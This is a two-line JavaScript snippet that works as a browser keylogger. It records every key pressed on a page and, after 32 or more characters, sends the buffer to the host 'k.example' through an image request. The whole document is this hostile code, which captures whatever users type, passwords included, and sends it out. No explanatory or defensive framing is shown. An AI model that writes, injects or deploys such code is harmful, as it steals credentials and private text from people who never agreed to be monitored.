let buf = '';
addEventListener('keydown', ({ key }) => { buf += key; if (buf.length > 32) { new Image().src = '//k.example/?' + new URLSearchParams({ buf }); buf = ''; } });
